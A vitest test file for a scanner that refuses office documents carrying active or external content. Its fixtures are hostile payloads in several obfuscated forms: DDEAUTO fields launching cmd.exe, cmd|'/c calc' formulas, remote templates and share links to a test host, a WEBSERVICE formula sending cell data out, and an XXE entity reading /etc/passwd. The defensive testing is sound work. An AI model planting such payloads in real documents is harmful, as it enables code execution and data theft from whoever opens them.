import { describe, expect, it } from 'vitest'
import { checkFile } from '../../../../../extensions/access/src/rules/file-kinds.ts'
import type { ZipEntry } from '../../../../support/files.ts'
import { RELATION, SHEET, WORD, aDocx, aPackage, aPng, aRelation, aSheet, anOdt } from '../../../../support/files.ts'

const check = (bytes: Buffer) => checkFile(bytes, 'x')
const TEMPLATE = `${RELATION}/attachedTemplate`
const HOST = 'http://198.51.100.7'
const settings = (content: string | Buffer): ZipEntry => ({ name: 'word/_rels/settings.xml.rels', content })
const header = (content: string, name = 'word/header1.xml', prefix = 'w'): ZipEntry => ({ name, content: `<${prefix}:hdr xmlns:${prefix}="${WORD}" xmlns:r="${RELATION}" xmlns:v="urn:schemas-microsoft-com:vml">${content}</${prefix}:hdr>` })
const code = (text: string) => `<w:r><w:instrText>${text}</w:instrText></w:r>`
const mark = (kind: string) => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`
const field = (...pieces: string[]) => `<w:p>${mark('begin')}${pieces.join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`
const cell = (formula: string, name = 'xl/worksheets/sheet1.xml'): ZipEntry => ({ name, content: `<worksheet xmlns="${SHEET}"><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>` })
const typed = (extension: string, type: string, content: string | Buffer, name = `word/part.${extension}`) => aPackage('word/document.xml', 'wordprocessingml.document.main+xml', [{ name: 'word/document.xml', content: `<w:document xmlns:w="${WORD}"/>` }, { name, content }], `<Default Extension="${extension}" ContentType="${type}"/>`)

describe('an office document that does something by itself is refused', () => {
  it.each([
    ['a template of elsewhere', aDocx(settings(aRelation('attachedTemplate', `${HOST}/x.dotm`)))],
    ['the same under a prefix with a dot', aDocx(settings(`<a.b:Relationships xmlns:a.b="http://schemas.openxmlformats.org/package/2006/relationships"><a.b:Relationship Id="r1" Type="${TEMPLATE}" Target="${HOST}/x.dotm" TargetMode="External"/></a.b:Relationships>`))],
    ['the same under an accented prefix', aDocx(settings(`<é:Relationships xmlns:é="http://schemas.openxmlformats.org/package/2006/relationships"><é:Relationship Id="r1" Type="${TEMPLATE}" Target="${HOST}/x.dotm" TargetMode="External"/></é:Relationships>`))],
    ['the same in references', aDocx(settings(aRelation('attachedTemplate', `${HOST}/x.dotm`, 'TargetMode=\'&#x45;xternal\'')))],
    ['the same in long references', aDocx(settings(aRelation('attachedTemplate', `${HOST}/x.dotm`, 'TargetMode="&#x0000000045;xternal"')))],
    ['the same in two bytes a letter', aDocx(settings(Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(aRelation('attachedTemplate', `${HOST}/x.dotm`), 'utf16le')])))],
    ['the same in a long part', aDocx(settings(aRelation('attachedTemplate', `${HOST}/x.dotm`).replace('<Relationships', `<!--${'x'.repeat(80_000)}--><Relationships`)))],
    ['a template of a share', aDocx(settings(aRelation('attachedTemplate', 'file:///\\\\198.51.100.7\\x.dotm')))],
    ['a template of a share, in codes', aDocx(settings(aRelation('attachedTemplate', 'file:///%5C%5C198.51.100.7/x.dotm')))],
    ['a picture of elsewhere', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('image', `${HOST}/x.png`) })],
    ['a link to the disk', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('hyperlink', 'file:///c:/windows') })],
    ['a link to a share', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('hyperlink', '\\\\198.51.100.7\\x') })],
    ['a page that comes with it', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('aFChunk', 'a.dat', '') })],
    ['an object of another program', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('oleObject', 'embeddings/a.dat', '') })],
    ['an add-in', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('webextension', 'webextension1.xml', '') })],
    ['an exchange of data', aDocx(header(field(code('DDEAUTO c:\\\\windows\\\\cmd.exe'))))],
    ['the same in pieces', aDocx(header(field(code('DDEA'), code('UTO c:\\\\windows\\\\cmd.exe'))))],
    ['the same in a deletion', aDocx(header(field('<w:r><w:delInstrText>DDE c:\\\\windows\\\\cmd.exe</w:delInstrText></w:r>')))],
    ['the same in CDATA', aDocx(header(`<w:p><w:r><w:instrText><![CDATA[DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"]]></w:instrText></w:r></w:p>`))],
    ['the same under a prefix with a dot', aDocx(header('<w.x:p><w.x:r><w.x:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w.x:instrText></w.x:r></w.x:p>', 'word/header1.xml', 'w.x'))],
    ['the same without its marks', aDocx(header(`<w:p>${code('DDEA')}${code('UTO c:\\\\windows\\\\cmd.exe')}</w:p>`))],
    ['a field whose name another one shows', aDocx(header(field(field(code('QUOTE 68 68 69')), code(' c:\\\\windows\\\\cmd.exe'))))],
    ['a field of no known kind', aDocx(header(field(code('FETCH http://198.51.100.7/x'))))],
    ['a field that reads a file', aDocx(header(field(code('RD c:\\\\a.docx'))))],
    ['a link of a field to a share', aDocx(header(field(code('HYPERLINK "\\\\\\\\198.51.100.7\\\\x"'))))],
    ['a simple field', aDocx(header(`<w:fldSimple w:dirty="true" w:instr='INCLUDETEXT "${HOST}/x"'/>`))],
    ['a picture that a drawing fetches', aDocx(header(`<w:pict><v:shape><v:imagedata src="${HOST}/x.png"/></v:shape></w:pict>`))],
    ['a picture of a comment fetched', typed('vml', 'application/vnd.openxmlformats-officedocument.vmlDrawing', `<xml xmlns:v="urn:schemas-microsoft-com:vml"><br><v:fill src="${HOST}/x"/></xml>`)],
    ['a source to merge with', aDocx({ name: 'word/settings.xml', content: `<w:settings xmlns:w="${WORD}"><w:mailMerge><w:connectString w:val="Provider=x"/></w:mailMerge></w:settings>` })],
    ['a page', typed('html', 'text/html', '<p>x</p>')],
    ['a text of another program', typed('rtf', 'application/rtf', `{\\rtf1{\\*\\template ${HOST}/x.dotm}}`)],
    ['an archive of a page', typed('mht', 'message/rfc822', 'MIME-Version: 1.0\n\n<img src="file://198.51.100.7/x">')],
    ['macros', typed('bin', 'application/vnd.ms-office.vbaProject', 'x', 'word/vbaProject.bin')],
    ['an object called a picture', aDocx({ name: 'word/media/a.png', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') })],
    ['a document with macros in a document', typed('xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', aSheet(cell('cmd|\'/c calc\'!A0')), 'word/embeddings/a.xlsx')],
    ['an exchange of a workbook', aSheet({ name: 'xl/externalLinks/externalLink1.xml', content: `<externalLink xmlns="${SHEET}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>` })],
    ['a program in a formula', aSheet(cell('cmd|\'/c calc\'!A0'))],
    ['the same in CDATA', aSheet(cell('<![CDATA[cmd|\'/c calc\'!A1]]>'))],
    ['the same around a remark', aSheet(cell('cmd<!-- -->|\'/c calc\'!A1'))],
    ['the same in references', aSheet(cell('cmd&#124;&apos;/c calc&apos;&#x21;A1'))],
    ['a host in a formula', aSheet(cell(`_xlfn.WEBSERVICE("${HOST}/"&amp;A1)`))],
    ['a picture in a formula', aSheet(cell(`_xlfn.IMAGE("${HOST}/"&amp;A1)`))],
    ['a share in a formula', aSheet(cell('\'\\\\198.51.100.7\\s\\[a.xlsx]S\'!A1'))],
    ['another workbook in a formula', aSheet(cell('[1]Feuil1!A1'))],
    ['a link of a formula to a share', aSheet(cell('HYPERLINK("\\\\198.51.100.7\\x","ici")'))],
    ['the same after a condition', aSheet(cell('HYPERLINK(IF(A1,"\\\\198.51.100.7\\x",""),"ici")'))],
    ['the same in a name', aSheet({ name: 'xl/a.xml', content: `<workbook xmlns="${SHEET}"><definedNames><definedName name="_xlnm.Auto_Open">Feuil1!A1</definedName></definedNames></workbook>` })],
    ['old macros', aSheet({ name: 'xl/macrosheets/sheet1.xml', content: '<xm:macrosheet xmlns:xm="x"><c><f>EXEC("calc")</f></c></xm:macrosheet>' })],
    ['a query', aSheet({ name: 'customXml/item1.xml', content: '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>' })],
    ['a connection', aSheet({ name: 'xl/_rels/workbook.xml.rels', content: aRelation('connections', 'connections.xml', '') })],
    ['a listener', anOdt('<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>')],
    ['a listener under a prefix with a dot', anOdt('<s.x:event-listener xmlns:s.x="urn:oasis:names:tc:opendocument:xmlns:script:1.0" s.x:event-name="dom:load" xlink:href="vnd.sun.star.script:a?language=Python&amp;location=share"/>')],
    ['a link to a macro', anOdt('<text:a xlink:href="macro:///Standard.Module1.Main">x</text:a>')],
    ['a picture of elsewhere in an open document', anOdt(`<draw:image xlink:href="${HOST}/x.png"/>`)],
    ['the same under a prefix with a dot', anOdt(`<d.x:image xmlns:d.x="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xlink:href="${HOST}/x.png"/>`)],
    ['the same beside a sign', anOdt(`<draw:image draw:name="a&lt;b&gt;" xlink:href="${HOST}/x.png"/>`)],
    ['the same under another prefix', anOdt(`<draw:image xmlns:é="http://www.w3.org/1999/xlink" é:href="${HOST}/x.png"/>`)],
    ['a section of elsewhere', anOdt(`<text:section-source xlink:href="${HOST}/x.odt"/>`)],
    ['a cell of elsewhere', anOdt('<table:cell-range-source xlink:href="\\\\198.51.100.7\\x"/>', [], 'spreadsheet')],
    ['a picture beside the file', anOdt('<draw:image xlink:href="../x.png"/>')],
    ['a formula of elsewhere', anOdt('<table:table-cell table:formula="of:=[\'file:///home/x/a.ods\'#$Feuille1.A1]"/>', [], 'spreadsheet')],
    ['a formula that exchanges', anOdt('<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"/>', [], 'spreadsheet')],
    ['a frame', anOdt('<draw:floating-frame xlink:href="a.html"/>')],
    ['a library of macros', anOdt('', [{ name: 'Basic/Standard/Module1.xml', content: '<a/>' }])],
    ['a template of a host', anOdt(`<meta:template xlink:href="${HOST}/x.ott"/>`)],
    ['entities', anOdt('', [{ name: 'meta.xml', content: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>' }])],
    ['a sheet of style of elsewhere', anOdt('', [{ name: 'meta.xml', content: `<?xml-stylesheet href="${HOST}/x.xsl"?><x/>` }])],
  ])('%s', async (_what, bytes) => {
    expect(await check(bytes)).toBe('active')
  })
})

describe('an office document that is not understood is refused', () => {
  it.each([
    ['bytes that are no text', aDocx({ name: 'word/x.xml', content: Buffer.from([0x3c, 0xff, 0xfe]) }), 'damaged'],
    ['an alphabet that is not read', aDocx({ name: 'word/x.xml', content: '<?xml version="1.0" encoding="UTF-7"?><x/>' }), 'damaged'],
    ['a prefix of nothing', aDocx({ name: 'word/x.xml', content: '<w:a/>' }), 'damaged'],
    ['an entity of nothing', aDocx({ name: 'word/x.xml', content: '<a>&b;</a>' }), 'damaged'],
    ['two roots', aDocx({ name: 'word/x.xml', content: '<a/><b/>' }), 'damaged'],
    ['an attribute written twice', aDocx({ name: 'word/x.xml', content: '<a b="1" b="2"/>' }), 'damaged'],
    ['a part of no type', aDocx({ name: 'word/header1.dat', content: `<w:hdr xmlns:w="${WORD}"><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:hdr>` }), 'part'],
    ['a formula in a part of no type', aSheet(cell('cmd|\'/c calc\'!A1', 'xl/worksheets/sheet1.dat')), 'part'],
    ['a picture that is none', aDocx({ name: 'word/media/a.png', content: 'd0cf11e0' }), 'part'],
    ['a film', typed('mp4', 'video/mp4', 'x'), 'part'],
    ['a type told twice', aPackage('word/document.xml', 'wordprocessingml.document.main+xml', [{ name: 'word/document.xml', content: '<a/>' }], '<Override PartName="/word/document.xml" ContentType="application/xml"/>'), 'damaged'],
    ['a document with macros', aPackage('word/document.xml', '../vnd.ms-word.document.macroEnabled.main+xml', [{ name: 'word/document.xml', content: '<a/>' }]), 'active'],
    ['a document under a password', anOdt('', [{ name: 'META-INF/manifest.xml', content: '<manifest><encryption-data/></manifest>' }]), 'encrypted'],
    ['bytes beside it', anOdt('', [{ name: 'Object 1', content: 'x' }]), 'part'],
  ])('%s', async (_what, bytes, reason) => {
    expect(await check(bytes)).toBe(reason)
  })
})

const CHART = `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" xmlns:r="${RELATION}"><c:chart><c:f>Feuil1!$B$2:$B$5</c:f></c:chart><c:externalData r:id="r1"/></c:chartSpace>`

describe('a harmless office document passes', () => {
  it.each([
    ['links to click', aDocx({ name: 'word/_rels/document.xml.rels', content: aRelation('hyperlink', 'https://relais.example/') })],
    ['a template of one’s own disk', aDocx(settings(aRelation('attachedTemplate', 'file:///C:\\Users\\a\\Modeles\\courrier.dotx')))],
    ['a page number, a table of contents, a merged field, a link', aDocx(header(`${field(code('PAGE'), code('   \\* MERGEFORMAT'))}${field(code('TOC\\o "1-3"'))}${field(code(' MERGEFIELD Link '))}${field(code(' HYPERLINK "https://relais.example/" \\o "DDE" '))}${field(code('IF '), field(code('MERGEFIELD Ddeauto')), code(' = "1" "a" "b"'))}${field(code('HYPERLINK \\l "_Toc1"'))}`))],
    ['a bookmark', aDocx(header(field(code(' Nom_1 '))))],
    ['words that look like others', aDocx(header('<w:t>Register (call) the DDE(x) | y! {INCLUDETEXT "x"}</w:t>'))],
    ['a chart with its workbook', aPackage('word/document.xml', 'wordprocessingml.document.main+xml', [
      { name: 'word/document.xml', content: `<w:document xmlns:w="${WORD}"/>` }, { name: 'word/charts/chart1.xml', content: CHART },
      { name: 'word/charts/_rels/chart1.xml.rels', content: aRelation('package', '../embeddings/a.xlsx', '') }, { name: 'word/embeddings/a.xlsx', content: aSheet(cell('SUM(A1:A2)')) },
    ], '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Override PartName="/word/charts/chart1.xml" ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>')],
    ['a picture', aDocx({ name: 'word/media/a.png', content: aPng() })],
    ['a comment with a break', typed('vml', 'application/vnd.openxmlformats-officedocument.vmlDrawing', '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>a<br>b</div></v:textbox></v:shape></xml>')],
    ['properties of a file and of a sheet', aPackage('xl/workbook.xml', 'spreadsheetml.sheet.main+xml', [
      { name: 'xl/workbook.xml', content: `<workbook xmlns="${SHEET}"/>` }, { name: 'docProps/custom.xml', content: '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>' },
      { name: 'xl/customProperty1.bin', content: Buffer.from('a\0b\0', 'latin1') }, { name: 'xl/printerSettings/printerSettings1.bin', content: Buffer.alloc(400, 3) },
    ], '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/><Override PartName="/xl/customProperty1.bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.customProperty"/>')],
    ['sums, tables and other sheets', aSheet(cell('SUM(A1:A2)+\'Janvier: bilan\'!B2*\'Feuil 3\'!C1+Tableau1[[#This Row],[Montant]]-[0]!Taux&amp;"|x!"'), { name: 'xl/a.xml', content: `<workbook xmlns="${SHEET}"><definedNames><definedName name="Taux">Feuil1!$A$1</definedName></definedNames></workbook>` })],
    ['a link of a formula', aSheet(cell('HYPERLINK("https://relais.example/","ici")'))],
    ['a link whose label has a colon', aSheet(cell('IF(A1="Note : x",HYPERLINK("https://relais.example/"&amp;A2,"Voir : la fiche"),"")'))],
    ['a link to a cell', aSheet(cell('HYPERLINK("#Feuil2!A1","Suite : 2")'))],
    ['links and pictures of an open document', anOdt('<text:a xlink:href="https://relais.example/">x</text:a><text:a xlink:href="#chapitre">x</text:a><draw:image xlink:href="Pictures/1.png"/><draw:object xlink:href="./Object 1"/><meta:template xlink:href="file:///home/x/modele.ott"/><office:scripts/>', [{ name: 'Pictures/1.png', content: aPng() }, { name: 'layout-cache', content: Buffer.from([1, 2]) }, { name: 'Configurations2/images/', content: '' }])],
    ['formulas of an open document', anOdt('<table:table-cell table:formula="of:=SUM([.A1:.A3])+[$Feuille2.B1]"/><table:table-cell table:formula="of:=VLOOKUP([.A1];[$\'Feuille 2\'.A1:.B9];2)"/>', [], 'spreadsheet')],
  ])('%s', async (_what, bytes) => {
    expect(await check(bytes)).toHaveProperty('bytes', bytes)
  })
})
